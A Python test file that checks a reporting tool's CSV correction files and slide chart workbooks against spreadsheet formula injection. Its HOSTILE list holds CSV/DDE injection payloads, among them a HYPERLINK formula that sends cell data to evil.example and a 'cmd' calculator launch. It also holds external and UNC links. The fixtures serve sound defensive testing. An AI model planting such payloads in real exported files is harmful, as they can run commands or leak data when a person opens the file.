"""Every file made for people goes through the writers that quote; a new writer is found here."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pptx
import pytest

from signpost.metrics.model.schema import parse
from signpost.pipelines.correction_file import correction_file
from signpost.pipelines.ingest import ingest
from signpost.presentation.chart_data import ForestRow, Step
from signpost.presentation.reports.charts import ChartFrame, forest_chart, waterfall_chart
from signpost.presentation.theme import GRADES
from signpost.registry import PACKAGES
from signpost.warehouse import Warehouse
from tests.trust.conftest import ROOT

pytestmark = pytest.mark.slow  # many loads

WRITES = {"writer", "DictWriter", "to_csv", "to_excel", "to_html", "to_markdown", "Workbook"}
"""Names that turn tables into files a person opens."""
KNOWN = {
    "connectors/paged.py": "what a service gave, into the inbox, for our own reading only",
    "metrics/planning/worksheet.py": "texts are written as texts",
    "pipelines/correction_file.py": "every cell through inert_cell",
    "pipelines/files/framed_text.py": "for our own reading only",
    "pipelines/files/parquet_table.py": "for our own reading only",
    "pipelines/files/quote_repair.py": "for our own reading only",
    "pipelines/files/spreadsheet.py": "for our own reading only",
    "pipelines/shapes/table_blocks.py": "for our own reading only",
    "presentation/escaping.py": "csv_bytes: every cell through inert_cell",
    "presentation/reports/xlsx.py": "texts are written as texts",
    "signpost/testing.py": "files of tests",
}


def writers(source: str) -> set[str]:
    calls = (node for node in ast.walk(ast.parse(source)) if isinstance(node, ast.Call))
    return {one.func.attr for one in calls if isinstance(one.func, ast.Attribute)} & WRITES


def test_no_other_module_writes_a_table() -> None:
    found = {
        path.relative_to(ROOT).as_posix()
        for package in ("signpost", *PACKAGES)
        if package != "sample_data"
        for path in (ROOT / package).rglob("*.py")
        if writers(path.read_text(encoding="utf-8"))
    }
    assert found - set(KNOWN) == set()
    assert writers("import csv\ncsv.writer(x)") == {"writer"}


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|x",
    "@SUM(1)",
    "-2+3;=1+1",
    "\t=1",
    "\ufeff=1+1",
    "\u200b\xad=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_file_of_rows_to_correct_runs_nothing(text: str, tmp_path: Path) -> None:
    file = tmp_path / "usage.csv"
    with file.open("w", newline="", encoding="utf-8") as out:
        rows = [[f"p{n}@example.org", "2026-W10", 3, "teams", ""] for n in range(12)]
        head = ["person", "period", "times", "platform", "=note"]
        csv.writer(out).writerows([head, *rows, [text, "2026-W99", -3, "teams", text]])
    warehouse = Warehouse(tmp_path / "data")
    ingest(warehouse, [file], who="x", validate_programme=parse)
    made = correction_file(warehouse.read(), 1, file)
    assert made is not None
    body = made[1].decode("utf-8-sig")
    cells = [one for row in csv.reader(io.StringIO(body)) for one in row]
    bare = text.strip().replace("'", "")
    assert any(bare in one.replace("'", "") for one in cells)
    starts = [one.lstrip()[:1] for one in cells if one.strip() not in ("-3",)]
    assert not set(starts) & set("=+-@")
    for separator in (";", "\t"):
        apart = [one for row in csv.reader(io.StringIO(body), delimiter=separator) for one in row]
        assert not {one.strip()[:1] for one in apart if one[:2] != "-3"} & set("=+-@")


def test_the_workbook_behind_a_chart_of_a_slide_runs_and_links_nothing() -> None:
    links = ["http://evil.example/", "mailto:x@evil.example", "external:\\\\evil\\share\\x.xlsx"]
    labels = [*HOSTILE, *links, "internal:Sheet1!A1", "plain", "Cost: licences"]
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    frame = ChartFrame(1, 1, 5, 3)
    rows = [ForestRow(text, 1.0, 0.0, 2.0, next(iter(GRADES.values()))) for text in labels]
    forest_chart(slide, frame, rows, "x")
    waterfall_chart(slide, frame, [Step(text, 1.0, "1") for text in labels], "x")
    body = io.BytesIO()
    deck.save(body)
    with zipfile.ZipFile(body) as packed:
        inside = [packed.read(name) for name in packed.namelist() if name.endswith(".xlsx")]
    assert len(inside) == 2
    for workbook in inside:
        with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
            text = " ".join(parts.read(n).decode() for n in parts.namelist() if n[-4:] != ".bin")
        assert "Cost: licences" in text
        assert "<f>" not in text
        assert "hyperlink" not in text
